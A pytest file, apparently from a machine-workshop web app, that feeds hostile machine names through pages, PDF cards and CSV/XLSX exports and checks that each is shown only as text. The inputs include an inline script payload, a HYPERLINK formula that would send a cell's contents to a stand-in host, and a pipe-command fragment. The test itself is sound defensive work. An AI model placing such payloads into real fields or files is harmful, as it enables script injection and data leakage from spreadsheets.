"""A machine, a fault or a word with a hostile name is shown as that name: no markup, no formula, no broken paper."""

from __future__ import annotations

import csv
import io

import pytest
from flask import Flask

from core.db import fast, transaction
from hardware.services.machines import MachineData, change_machine
from tests.front_desk.doors import sign_in
from tests.hardware.workshop import NINE, Workshop
from tests.pages import PageClient

NAMES = (
    "<b>Router</b><script>alert(1)</script>",
    '=HYPERLINK("http://x/"&A1)',
    "@SUM(1)|cmd &amp; <para>",
    "W" * 60,
)
PAGES = (
    "/machines",
    "/machines/{}",
    "/machine-cards",
    "/machines/kiosks",
    "/machines/sessions",
    "/machines/faults",
    "/machine-bookings",
    "/M/{}",
)


@pytest.mark.parametrize("name", NAMES)
def test_a_hostile_name_is_only_a_name(
    app: Flask, workshop: Workshop, page_client: PageClient, name: str
) -> None:
    code = workshop.machines["router"].code
    workshop.play(workshop.tape().on("amina").run(60).off("amina"))
    with transaction():
        data = MachineData(name, "router", instructions=name)
        change_machine(by=workshop.actor("ruth"), code=code, data=data, at=NINE)
        fast().run("UPDATE machine_session SET piece_code = ?", (name[:12],))
    sign_in(page_client, "Ruth")
    for page in PAGES:
        markup = page_client.get(page.format(code)).response.text
        assert "<script>alert" not in markup and "<b>Router" not in markup, page
    for paper in ("/machine-cards.pdf", f"/machine-cards/{code}.pdf"):
        assert page_client.client.get(paper).data.startswith(b"%PDF"), paper
    table = page_client.client.get("/machines/sessions.csv").data.decode("utf-8-sig")
    for cell in (cell for line in csv.reader(io.StringIO(table)) for cell in line):
        assert not cell.startswith(("=", "@", "+", "\t", "\r")), cell
    assert page_client.client.get("/machines/sessions.xlsx").data.startswith(b"PK")
